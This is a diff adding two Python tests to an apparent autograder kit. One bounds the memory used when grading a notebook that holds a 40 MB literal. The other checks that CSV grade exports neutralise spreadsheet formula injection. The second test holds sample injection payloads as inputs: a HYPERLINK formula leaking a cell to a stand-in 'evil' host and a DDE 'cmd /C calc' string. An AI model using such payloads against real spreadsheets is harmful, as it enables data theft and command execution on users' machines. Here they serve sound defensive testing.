@@ -655,3 +655,59 @@ def test_a_deleted_autograder_cell_gives_the_same_score_in_grades_csv_and_nbgrad
         result = load_results(course)["s002"]
         note = _enter_missing_cells(gb, course, "s002", nb, {grade_ids.grade(p.name): p for p in result.parts})
         assert "grade_sigmoid" in note and gb.find_submission("logreg", "s002").score == 100
+
+
+# ---------------------------------------------------------------- the judge's cost per submission; CSV cells
+
+
+@pytest.mark.slow
+def test_a_correct_notebook_with_a_40_mb_literal_is_graded_within_the_stated_memory(tmp_path):
+    import subprocess
+    import sys
+
+    from autograder.engine.limits import Limits
+    from autograder.engine.submission import read_submission
+    from autograder.tools import judge_size
+
+    path = judge_size.build(40e6, "teaching", tmp_path / "big.ipynb")
+    size_mb = path.stat().st_size / 1e6
+    proc = subprocess.run(
+        [sys.executable, "-m", "autograder.tools.judge_size", "--one", str(path)],
+        capture_output=True,
+        text=True,
+        cwd=KIT_ROOT,
+        env=os.environ | {"PYTHONPATH": str(KIT_ROOT)},
+    )
+    measured = json.loads(proc.stdout.strip().splitlines()[-1])
+    assert measured["score"] == 100, measured
+    assert "over the 256 KB limit for one cell" in measured["errors"][0]
+    assert measured["judge_peak_rss_mb"] <= 60 + 2 * size_mb, measured  # the bound stated in limits.py
+    # Positive control: without the cell limit the whole 40 MB literal goes to every part's sandbox.
+    unbounded = read_submission(path, Limits(cell_chars=10**9, code_chars=10**9))
+    assert max(len(c.source) for c in unbounded.cells) > 39e6
+    assert max(len(c.source) for c in read_submission(path).cells) < Limits().cell_chars
+
+
+def test_every_csv_cell_the_kit_writes_is_inert_in_a_spreadsheet(tmp_path):
+    from autograder.course import grades
+    from autograder.engine.judge import ungraded_report
+    from autograder.engine.results import CheckResult
+
+    course = _course(tmp_path)
+    report = ungraded_report(None, '=HYPERLINK("http://evil/?"&A1,"click")')
+    report.parts[0].checks[0] = CheckResult("+cmd|' /C calc'!A0", "failed", 0.0, 1.0, "@SUM(1)", "-2+3")
+    results = {"s001": report}
+    grades.write_grades_csv(course, results)
+    grades.write_item_analysis(course, results)
+    cells = [
+        cell
+        for name in ("grades.csv", "item_analysis.csv")
+        for row in csv.reader((course.grades / name).open(encoding="utf-8"))
+        for cell in row
+    ]
+    assert any("HYPERLINK" in c for c in cells) and any("calc" in c for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not grades._is_number(c)]
+    # Positive control: the same rows written without csv_cell hold live formulas.
+    assert report.errors[0].startswith("=") and grades.csv_cell(report.errors[0]).startswith("'=")
+    raw = grades.item_analysis(results)
+    assert any(str(v).startswith("+") for row in raw for v in row.values())
